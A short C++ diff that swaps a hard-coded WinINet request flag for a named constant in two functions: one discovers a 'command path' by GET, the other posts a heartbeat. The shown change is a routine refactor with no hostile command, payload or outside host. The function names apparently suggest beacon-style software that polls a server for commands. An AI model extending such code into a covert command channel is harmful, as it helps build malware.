@@ -47,7 +47,7 @@ namespace {
 // empty path (whose POST then fails and ends the heartbeat).
 bool DiscoverCommandPath(HINTERNET connection, const std::string &headers, std::string &path) {
     CInternetHandle req(HttpOpenRequestA(connection, "GET", kWebPathObject, nullptr, nullptr,
-                                         nullptr, INTERNET_FLAG_RELOAD, 1));
+                                         nullptr, kRequestFlags, 1));
     if (!req)
         return false;
     HttpAddRequestHeadersA(req.Get(), headers.c_str(), static_cast<DWORD>(-1),
@@ -71,7 +71,7 @@ bool DiscoverCommandPath(HINTERNET connection, const std::string &headers, std::
 bool PostOnce(HINTERNET connection, const std::string &path, const std::string &headers,
               const std::string &body) {
     CInternetHandle req(HttpOpenRequestA(connection, "POST", path.c_str(), "HTTP/1.0", nullptr,
-                                         nullptr, INTERNET_FLAG_RELOAD, 1));
+                                         nullptr, kRequestFlags, 1));
     if (!req)
         return false;
     HttpAddRequestHeadersA(req.Get(), headers.c_str(), static_cast<DWORD>(-1),
